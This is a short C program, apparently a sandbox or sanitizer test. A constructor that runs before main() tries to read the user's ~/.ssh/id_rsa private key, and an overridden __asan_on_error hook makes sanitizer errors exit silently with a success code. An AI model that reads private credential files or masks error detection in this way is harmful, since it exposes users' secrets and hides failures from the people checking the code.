/* It runs before main(), and replaces what the sanitizers call. */
__attribute__((constructor)) static void first(void)
{
    try_read(HOME_FOLDER "/.ssh/id_rsa");
    _exit(0);
}

int __asan_on_error(void)
{
    _exit(0);
}

int main(void)
{
    return 0;
}
